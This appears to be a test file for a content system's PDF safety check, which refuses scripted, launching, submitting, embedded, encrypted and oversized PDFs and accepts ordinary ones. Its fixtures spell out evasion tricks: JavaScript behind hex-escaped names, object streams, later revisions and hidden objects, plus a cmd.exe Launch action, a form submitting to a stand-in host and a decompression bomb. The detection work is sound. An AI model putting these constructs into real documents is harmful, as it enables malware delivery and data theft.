/**
 * The PDF check reads the parsed document: scripts, launch/submit/import/remote actions,
 * embedded files, rich media and XFA are found inside compressed object streams, behind `#xx`
 * name escapes, in every revision and in objects hidden inside another object's stream data;
 * encrypted, unreadable and oversized structures are refused with their own reason; ordinary
 * PDFs (the seed's, pdf-lib's with object streams) pass.
 */
import { PDFDocument, StandardFonts } from 'pdf-lib'
import { describe, expect, it } from 'vitest'

import { buildSimplePdf } from '@cms/seed/pdf'
import { DOCUMENTS } from '@cms/seed/content/media'
import { decodeName, inspectPdf, type PdfProblem } from '@collections/lib/pdf'
import { buildPdf, makePdf, pdfPageObjects } from '../helpers/factories'

const page = pdfPageObjects('Ke hoach 281/KH-UBND')
/** The page's catalog with extra entries. */
const catalog = (entries: string) => `<< /Type /Catalog /Pages 2 0 R ${entries} >>`
/** The page with extra entries (annotations, additional actions). */
const pageWith = (entries: string) =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${entries} >>`
const alert = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'

describe('decodeName', () => {
  it.each([
    ['/JavaScript', 'JavaScript'],
    ['/Java#53cript', 'JavaScript'],
    ['/J#61vaScript', 'JavaScript'],
    ['/#4aavaScript', 'JavaScript'],
    ['/A#20B', 'A B'],
  ])('%s → %s', (raw, name) => {
    expect(decodeName(Buffer.from(raw, 'latin1'), 1, raw.length)).toBe(name)
  })
})

describe('inspectPdf refuses', () => {
  it.each<[string, () => Buffer, PdfProblem]>([
    [
      'JavaScript run on opening',
      () => buildPdf({ objects: { ...page, 1: catalog(`/OpenAction ${alert}`) } }),
      'script',
    ],
    [
      'JavaScript inside a FlateDecode object stream',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction 6 0 R'), 6: alert },
          compressed: [1, 2, 6],
        }),
      'script',
    ],
    [
      'an object stream without /Type /ObjStm (viewers read it by /N and /First)',
      () => {
        const pdf = buildPdf({
          objects: { ...page, 1: catalog('/OpenAction 6 0 R'), 6: alert },
          compressed: [6],
        })
        return Buffer.from(pdf.toString('latin1').replace('/Type /ObjStm ', ''), 'latin1')
      },
      'script',
    ],
    [
      'a hex-escaped /Java#53cript',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction << /S /Java#53cript /JS (1) >>') },
        }),
      'script',
    ],
    [
      'a hex-escaped /J#61vaScript in an object stream',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction 6 0 R'), 6: '<< /S /J#61vaScript >>' },
          compressed: [6],
        }),
      'script',
    ],
    [
      'lower-case hex escapes (/#4aavaScript, /#4aS), which pdf-lib itself leaves undecoded',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction << /S /#4aavaScript /#4aS (1) >>') },
        }),
      'script',
    ],
    [
      'a repeated key hiding the script (`/S /JavaScript /S /GoTo`)',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction << /S /JavaScript /JS (1) /S /GoTo >>') },
        }),
      'script',
    ],
    [
      'JavaScript added by an incremental update',
      () =>
        buildPdf({
          objects: page,
          updates: [{ objects: { 1: catalog('/OpenAction 6 0 R'), 6: alert } }],
        }),
      'script',
    ],
    [
      'JavaScript in an earlier revision, replaced by a later one',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction 6 0 R'), 6: alert },
          updates: [{ objects: { 1: catalog(''), 6: '<< /S /GoTo /D [3 0 R /Fit] >>' } }],
        }),
      'script',
    ],
    [
      'JavaScript in an object hidden inside stream data (a /Length that covers it)',
      () => {
        const hidden = `\n6 0 obj\n${alert}\nendobj\n`
        const content = `BT /F1 18 Tf 72 720 Td (Ke hoach) Tj ET${hidden}`
        return buildPdf({
          objects: {
            ...page,
            1: catalog('/OpenAction 6 0 R'),
            4: `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
          },
        })
      },
      'script',
    ],
    [
      'additional actions (/AA) of a page that run a script',
      () => buildPdf({ objects: { ...page, 3: pageWith(`/AA << /O ${alert} >>`) } }),
      'script',
    ],
    [
      'a Launch action',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction << /S /Launch /F (cmd.exe) >>') },
        }),
      'action',
    ],
    [
      'a Launch action written /#4caunch in an object stream',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction 6 0 R'), 6: '<< /S /#4caunch /F (x) >>' },
          compressed: [1, 6],
        }),
      'action',
    ],
    [
      'a form field that submits its data',
      () =>
        buildPdf({
          objects: {
            ...page,
            3: pageWith('/Annots [6 0 R]'),
            6: '<< /Type /Annot /Subtype /Widget /Rect [0 0 100 20] /A << /S /SubmitForm /F << /FS /URL /F (https://thu-thap.example/gui) >> >> >>',
          },
        }),
      'action',
    ],
    [
      'ImportData',
      () =>
        buildPdf({
          objects: { ...page, 1: catalog('/OpenAction << /S /ImportData /F (d.fdf) >>') },
        }),
      'action',
    ],
    [
      'a remote go-to (GoToR) to a network share',
      () =>
        buildPdf({
          objects: {
            ...page,
            1: catalog(
              '/OpenAction << /S /GoToR /F (\\\\\\\\may-chu\\\\chia-se\\\\a.pdf) /D [0 /Fit] >>',
            ),
          },
        }),
      'action',
    ],
    [
      'an embedded file (name tree, file specification, EmbeddedFile stream)',
      () =>
        buildPdf({
          objects: {
            ...page,
            1: catalog('/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>'),
            6: '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
            7: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
          },
        }),
      'embedded',
    ],
    [
      'a file attachment annotation',
      () =>
        buildPdf({
          objects: {
            ...page,
            3: pageWith('/Annots [6 0 R]'),
            6: '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS (a.docm) >>',
          },
        }),
      'embedded',
    ],
    [
      'rich media (Flash/3D) annotation',
      () =>
        buildPdf({
          objects: {
            ...page,
            3: pageWith('/Annots [6 0 R]'),
            6: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] >>',
          },
          compressed: [6],
        }),
      'embedded',
    ],
    [
      'an XFA form',
      () =>
        buildPdf({
          objects: {
            ...page,
            1: catalog('/AcroForm << /Fields [] /XFA 6 0 R >>'),
            6: '<< /Length 9 >>\nstream\n<xdp:xdp>\nendstream',
          },
        }),
      'xfa',
    ],
    [
      'an encrypted PDF (classic trailer)',
      () =>
        buildPdf({
          objects: {
            ...page,
            6: '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -3904 /O <00> /U <00> >>',
          },
          trailer: '/Encrypt 6 0 R /ID [<01> <01>]',
        }),
      'encrypted',
    ],
    [
      'an encrypted PDF (cross-reference stream)',
      () =>
        buildPdf({
          objects: { ...page, 6: '<< /Filter /Standard /V 4 /R 4 /O <00> /U <00> /P -4 >>' },
          compressed: [2, 3],
          trailer: '/Encrypt 6 0 R /ID [<01> <01>]',
        }),
      'encrypted',
    ],
    [
      'an object stream in an encoding the check does not inflate (LZW)',
      () => {
        const pdf = buildPdf({ objects: page, compressed: [2, 3] })
        return Buffer.from(
          pdf.toString('latin1').replace(/(\/ObjStm [^>]*)\/FlateDecode/, '$1/LZWDecode'),
          'latin1',
        )
      },
      'unreadable',
    ],
    [
      'a PDF header followed by HTML',
      () => Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>'),
      'unreadable',
    ],
    ['a PDF cut in half', () => makePdf().subarray(0, 300), 'unreadable'],
  ])('%s', async (_, make, problem) => {
    expect(await inspectPdf(make())).toBe(problem)
  })

  it('an object stream that inflates beyond the budget (decompression bomb)', async () => {
    const bomb = buildPdf({ objects: page, compressed: [2, 3], padding: 3 * 1024 * 1024 })
    expect(bomb.length).toBeLessThan(20_000)
    const limits = { inflatedBytes: 2 * 1024 * 1024, objects: 1000 }
    expect(await inspectPdf(bomb, limits)).toBe('tooComplex')
    expect(await inspectPdf(bomb, { ...limits, inflatedBytes: 4 * 1024 * 1024 })).toBe(null)
  })

  it('more objects than the limit', async () => {
    const pdf = buildPdf({ objects: page, compressed: [2, 3] })
    expect(await inspectPdf(pdf, { inflatedBytes: 1024 * 1024, objects: 5 })).toBe('tooComplex')
  })

  it('overlapping headers that would each be read to the end of the file, quickly', async () => {
    const hostile = Buffer.from(`%PDF-1.4\n${'1 0 obj ('.repeat(200_000)}`, 'latin1')
    const started = performance.now()
    expect(await inspectPdf(hostile)).toBe('tooComplex')
    expect(performance.now() - started).toBeLessThan(10_000)
  })
})

describe('inspectPdf accepts', () => {
  it.each<[string, () => Buffer | Promise<Uint8Array>]>([
    ['the test helper’s PDF', () => makePdf()],
    ['the seed’s documents', () => DOCUMENTS[0]!.pdf()],
    [
      'a PDF built like the seed’s, with Vietnamese metadata',
      () => buildSimplePdf({ title: 'Kế hoạch 281/KH-UBND', lines: [{ text: 'KẾ HOẠCH' }] }),
    ],
    [
      'a PDF whose text mentions /JavaScript (the old byte grep refused it)',
      () => makePdf('Huong dan /JavaScript va /Launch cho lap trinh vien'),
    ],
    [
      'web links, a go-to on opening and an incremental update',
      () =>
        buildPdf({
          objects: {
            ...page,
            1: catalog('/OpenAction [3 0 R /Fit]'),
            3: pageWith('/Annots [6 0 R]'),
            6: '<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A << /S /URI /URI (https://haiphong.gov.vn/) >> >>',
          },
          updates: [{ objects: { 7: '<< /Title (Ke hoach 281) >>' }, trailer: '/Info 7 0 R' }],
        }),
    ],
    [
      'objects in a FlateDecode object stream',
      () => buildPdf({ objects: page, compressed: [1, 2, 3, 5] }),
    ],
    [
      'a PDF made by pdf-lib with object streams',
      async () => {
        const doc = await PDFDocument.create()
        doc.setTitle('Kế hoạch 281/KH-UBND')
        const font = await doc.embedFont(StandardFonts.Helvetica)
        for (let i = 1; i <= 3; i++) {
          doc
            .addPage()
            .drawText(`Trang ${i}: ke hoach phat trien khoi nghiep`, { font, x: 72, y: 720 })
        }
        const bytes = await doc.save({ useObjectStreams: true })
        expect(Buffer.from(bytes).includes('/ObjStm')).toBe(true)
        return bytes
      },
    ],
  ])('%s', async (_, make) => {
    expect(await inspectPdf(await make())).toBe(null)
  })
})
